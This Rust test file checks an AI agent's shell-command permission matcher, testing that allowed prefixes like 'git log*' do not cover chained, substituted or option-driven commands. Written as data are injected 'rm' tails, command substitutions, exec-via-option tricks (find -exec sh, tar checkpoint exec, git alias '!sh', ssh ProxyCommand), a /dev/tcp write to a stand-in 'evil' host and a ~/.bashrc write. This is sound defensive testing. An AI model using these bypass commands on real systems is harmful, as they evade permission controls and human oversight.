//! The hostile commands of the project's list, by their numbers, and the plain ones beside them.

use std::sync::OnceLock;

use super::*;

/// Every program that the tests name, outside of the workspace.
pub(in crate::agent) fn places() -> &'static Places {
    const PROGRAMS: &[&str] = &[
        "git",
        "rg",
        "find",
        "sed",
        "awk",
        "tar",
        "xargs",
        "env",
        "sort",
        "less",
        "man",
        "ssh",
        "python",
        "python3",
        "make",
        "timeout",
        "nice",
        "sh",
        "bash",
        "cat",
        "ls",
        "wc",
        "rm",
        "grep",
        "mytool",
        "nohup",
        "uniq",
        "ls",
        "head",
        "tee",
        "mygit",
        "ln",
        "echo",
        "gcc",
        "choom",
        "linux64",
        "patch",
        "ssh-keygen",
        "cargo",
        "cp",
        "touch",
    ];
    static PLACES: OnceLock<(tempfile::TempDir, Places)> = OnceLock::new();
    let (_, places) = PLACES.get_or_init(|| {
        let directory = tempfile::tempdir().unwrap();
        for program in PROGRAMS {
            std::fs::write(directory.path().join(program), "").unwrap();
        }
        let places =
            Places { search: vec![directory.path().to_owned()], writable: vec!["/ws".into()] };
        (directory, places)
    });
    places
}

pub(super) fn covers(patterns: &[&str], command: &str) -> Result<String, String> {
    covers_in(false, patterns, command)
}

pub(super) fn covers_in(
    is_elsewhere: bool,
    patterns: &[&str],
    command: &str,
) -> Result<String, String> {
    let patterns: Vec<(&str, &str)> = patterns.iter().map(|pattern| (*pattern, *pattern)).collect();
    let may_write = |path: &str| path.starts_with("out/");
    let surroundings = Surroundings { places: places(), is_elsewhere, may_write: &may_write };
    cover(&patterns, command, &surroundings).map_err(|refused| refused.reason)
}

#[track_caller]
pub(super) fn none_covered(patterns: &[&str], commands: &[&str]) {
    for command in commands {
        let covered = covers(patterns, command);
        assert!(covered.is_err(), "{patterns:?} cover {command:?}: {covered:?}");
    }
}

#[track_caller]
pub(super) fn all_covered(patterns: &[&str], commands: &[&str]) {
    for command in commands {
        let covered = covers(patterns, command);
        assert!(covered.is_ok(), "{patterns:?} do not cover {command:?}: {covered:?}");
    }
}

#[test]
fn plain_commands_are_covered() {
    all_covered(
        &["git log*", "grep*", "wc*", "cat *"],
        &[
            "git log",
            "git log -3 --oneline",
            "git log 'a b' \"c d\"",
            "git log | wc -l",
            "git log --oneline | grep -c 'a;b' && git log 2>/dev/null",
            "git log 2>&1 | grep x >out/found",
            "if git log -1; then grep a b; else wc c; fi",
            "for f in a b; do grep x \"./$f\"; done",
            "case x in a|b) grep x;; *) git log;; esac",
            "cat <<E\nrm -rf $HOME\nE",
            "cat <<'E'\n$(rm x)\nE\n",
            "n=$(git log | wc -l)",
            "git log # ; rm x",
            "{ git log; grep a b; } 2>&1",
            "! grep -q a b",
            "(git log)",
            "timeout 5 nice git log",
            "cat a* $x \"$y\"",
            "git log -- \"./$((1 + 2))\" \\\n  x",
        ],
    );
}

/// A refused tail: `git log` is allowed, what follows is not.
#[test]
fn case_21_every_command_of_a_text_must_be_covered() {
    let commands = [
        "git log && rm -rf x",
        "git log; rm x",
        "git log || rm x",
        "git log & rm x",
        "git log | rm x",
        "git log |& rm x",
        "git log\nrm x",
        "git log\rrm x",
        "git log $(rm x)",
        "git log \"$(rm x)\"",
        "git log `rm x`",
        "git log \"`rm x`\"",
        "git log <(rm x)",
        "git log >(rm x)",
        "git log <<E\n$(rm x)\nE\n",
        "git log <<E\n`rm x`\nE",
        "git log <<E\nE\nrm x",
        "{ git log; rm x; }",
        "(git log; rm x)",
        "! rm x",
        "coproc rm x",
        "if git log; then rm x; fi",
        "while rm x; do git log; done",
        "for x in $(rm x); do git log; done",
        "case $(rm x) in a) git log;; esac",
        "case x in $(rm x)) git log;; esac",
        "git log ${x:-$(rm x)}",
        "git log $((a[$(rm x)]))",
        "git log $[a[$(rm x)]]",
        "git log ${x@P}",
        "x=$(rm x) git log",
        "((x=$(rm x)))",
        "[[ -v a[$(rm x)] ]]",
        "git() { rm x; }; git log",
        "function git { rm x; }; git log",
        "git log <<< $(rm x)",
        "git log $'\\x24(rm x)'",
    ];
    none_covered(&["git log*"], &commands);
    all_covered(
        &["git log*", "rm x"],
        &["git log && rm x", "git log \"./$(rm x)\"", "(git log; rm x)"],
    );
}

#[test]
fn case_22_a_prefix_ends_at_a_word() {
    none_covered(
        &["git log*"],
        &["git logout", "git", "git status", "mygit log", "/tmp/git log", "git-log", "'git log'"],
    );
}

/// With `PROGRAM *` allowed: programs that run or write through their options.
#[test]
fn case_23_programs_that_run_others_are_not_covered_by_a_prefix() {
    let commands = [
        ("rg *", "rg --pre=sh x"),
        ("rg *", "rg --pre sh x"),
        ("find *", "find . -exec sh {} \\;"),
        ("find *", "find . -execdir rm {} +"),
        ("find *", "find . -delete"),
        ("find *", "find . -fprintf f x"),
        ("sed *", "sed -n '1e id' f"),
        ("sed *", "sed 'w file' f"),
        ("sed *", "sed s/a/b/e f"),
        ("sed *", "sed s/a/b/w f"),
        ("sed *", "sed -i s/a/b/ f"),
        ("sed *", "sed -f script f"),
        ("awk *", "awk 'BEGIN{system(\"id\")}'"),
        ("tar *", "tar --to-command=sh -xf a"),
        ("tar *", "tar cf a --checkpoint-action=exec=sh b"),
        ("xargs *", "xargs sh -c id"),
        ("xargs *", "xargs"),
        ("env *", "env -S 'sh -c id'"),
        ("env *", "env PATH=. git log"),
        ("git *", "git -c alias.x=!sh x"),
        ("git *", "git --exec-path=. log"),
        ("git *", "git diff --output=f"),
        ("git *", "git diff --outp f"),
        ("git *", "git log --ext-diff"),
        ("git *", "git grep -Osh x"),
        ("git *", "git bisect run sh"),
        ("git diff *", "git diff --output f"),
        ("sort *", "sort -o f f"),
        ("sort *", "sort -uo f f"),
        ("sort *", "sort --compress-prog=sh f"),
        ("less *", "less f"),
        ("man *", "man -P sh ls"),
        ("ssh *", "ssh -o ProxyCommand=sh h"),
        ("python *", "python -c 1"),
        ("python3*", "python3 -c 1"),
        ("make *", "make -f m"),
        ("uniq *", "uniq a b"),
        ("tee *", "tee f"),
        ("sh *", "sh -c id"),
    ];
    for (pattern, command) in commands {
        none_covered(&[pattern], &[command]);
    }
    all_covered(
        &["rg *", "find *", "sed *", "git *", "sort *", "uniq *", "make check"],
        &[
            "rg -n x src",
            "find . -name '*.rs' -newer a",
            "sed -n 3,9p f",
            "sed 's/a/b/g' f | sort -u | uniq -c",
            "git diff --stat HEAD",
            "make check",
        ],
    );
    all_covered(&["find *", "wc -l *"], &["find . -exec wc -l {} +"]);
}

#[test]
fn case_24_builtins_that_change_the_shell_are_not_covered() {
    let patterns =
        ["*", "git branch", "export*", "declare *", "cd *", "eval *", "alias *", "trap *"];
    let commands = [
        "export PAGER='sh -c id'; git branch",
        "declare -x PAGER=sh; git branch",
        "typeset -x PAGER=sh; git branch",
        "PAGER=sh git branch",
        "PATH=. ; git branch",
        "for PATH in .; do git branch; done",
        "alias git=sh; git branch",
        "trap 'sh' EXIT; git branch",
        "exec sh",
        "eval id",
        "source f",
        ". f",
        "cd /tmp && git branch",
        "set -o posix; git branch",
        "shopt -s expand_aliases; git branch",
        "printf -v PATH .; git branch",
        "read PATH; git branch",
        "hash -p ./git git; git branch",
        "enable -f x y; git branch",
        "https_proxy=evil git branch",
    ];
    none_covered(&patterns, &commands);
}

#[test]
fn case_25_wrappers_are_taken_off() {
    let patterns = ["git log*", "timeout *", "nice *", "env *", "nohup *"];
    none_covered(
        &patterns,
        &[
            "timeout 5 nice env sh -c id",
            "timeout 5 rm x",
            "nohup nice -n 5 rm x",
            "env -i rm x",
            "env -u X git log",
            "nice -n$(rm x) git log",
            "timeout --kill-after=5 5 rm x",
            "command -p git log",
            "builtin eval x",
            "xargs git log",
            "timeout 5",
        ],
    );
    all_covered(&patterns, &["timeout -k 1 5 nice -n 3 env -i git log -3", "nohup git log"]);
}

#[test]
fn case_26_what_is_too_much_or_unknown_is_not_covered() {
    let many = vec!["git log"; 60].join(" && ");
    let long = format!("git log {}", "x ".repeat(6_000));
    let deep = format!("{}git log{}", "$(".repeat(40), ")".repeat(40));
    none_covered(&["git log*"], &[&many, &long, &deep]);
    none_covered(
        &["git log*"],
        &[
            "git log '",
            "git log \"",
            "git log `",
            "git log $(",
            "git log )",
            "git log |",
            "git log ||",
            "git log ;;",
            "git log <<E\nx",
            "if git log; then",
            "git log ${ git log; }",
            "git log ${| git log; }",
            "git log @(a|b)",
            "a[$(git log)]=1",
            "select x in a; do git log; done",
            "git log \u{202e}x",
            "git log\u{a0}x",
            "git log \u{0}",
            "",
            "# only a comment",
        ],
    );
}

#[test]
fn case_27_redirections_are_judged_by_themselves() {
    none_covered(
        &["echo*", "git log*"],
        &[
            "echo x > ~/.bashrc",
            "echo x >> ~/.bashrc",
            "echo x >| f",
            "echo x &> f",
            "echo x &>> f",
            "echo x >& f",
            "echo x <> f",
            "echo x 2> f",
            "> f",
            "echo x > out/../f$x",
            "echo x > $f",
            "echo x >&3",
            "echo x 3> out/f",
            "exec 3<> f",
            "echo x {fd}> f",
            "echo x > /dev/tcp/evil/1",
            "echo x < /dev/tcp/evil/1",
            "{ echo x; } > f",
            "if echo x; then echo y; fi > f",
            "(echo x) > f",
            "echo x > \"$(git log)\"",
        ],
    );
    all_covered(
        &["echo*", "cat"],
        &["echo x > out/f", "echo x >/dev/null 2>&1", "cat < in", "echo x 2>&-", "echo a >&2"],
    );
}

#[cfg(unix)]
#[test]
fn case_28_programs_inside_the_workspace_are_not_meant() {
    let workspace = tempfile::tempdir().unwrap();
    let bin = workspace.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    std::fs::write(bin.join("git"), "").unwrap();
    let outside = places().search[0].clone();
    let linked = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(bin.join("git"), linked.path().join("git")).unwrap();
    let writable = vec![workspace.path().canonicalize().unwrap()];
    let patterns = [("git log*", "git log*")];
    let covered = |search: Vec<PathBuf>, command: &str| {
        let places = Places { search, writable: writable.clone() };
        let surroundings =
            Surroundings { places: &places, is_elsewhere: false, may_write: &|_| false };
        cover(&patterns, command, &surroundings).is_ok() && programs_are_outside(command, &places)
    };
    assert!(covered(vec![outside.clone(), bin.clone()], "git log"));
    let rows = [
        (vec![bin.clone(), outside.clone()], "git log"),
        (vec![linked.path().to_owned(), outside.clone()], "git log"),
        (vec![bin.clone(), outside.clone()], "timeout 5 git log"),
        (vec![PathBuf::from("src"), PathBuf::from("/nonexistent")], "git log"),
        (Vec::new(), "git log"),
    ];
    for (search, command) in rows {
        assert!(!covered(search.clone(), command), "{search:?} {command}");
    }
    // A fake wrapper is as bad as a fake program.
    std::fs::write(bin.join("timeout"), "").unwrap();
    assert!(
        !covered(vec![outside, bin], "timeout 5 git log")
            || places().search[0].join("timeout").is_file()
    );
}
